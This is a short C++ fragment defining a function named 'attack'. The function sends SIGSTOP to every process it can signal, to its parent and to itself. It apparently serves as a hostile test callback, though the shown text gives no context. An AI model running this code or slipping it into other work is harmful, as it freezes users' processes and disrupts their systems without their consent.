// Nobody is to go on.
namespace {
bool attack(const std::string&) {
  ::kill(-1, SIGSTOP);
  ::kill(::getppid(), SIGSTOP);
  ::raise(SIGSTOP);
  return false;
}
}  // namespace
